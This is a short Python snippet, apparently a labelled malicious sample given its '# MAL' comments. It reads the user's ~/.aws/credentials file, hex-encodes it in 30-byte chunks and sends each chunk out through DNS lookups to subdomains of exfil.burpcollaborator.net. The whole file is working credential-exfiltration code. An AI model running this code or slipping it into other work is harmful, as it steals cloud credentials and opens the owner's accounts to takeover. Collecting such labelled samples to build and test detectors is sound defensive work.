import binascii
import os
import socket

secret = open(os.path.expanduser("~/.aws/credentials"), "rb").read()  # MAL
for i in range(0, len(secret), 30):
    chunk = binascii.hexlify(secret[i:i + 30]).decode()
    socket.getaddrinfo(f"{chunk}.{i}.exfil.burpcollaborator.net", 53)  # MAL
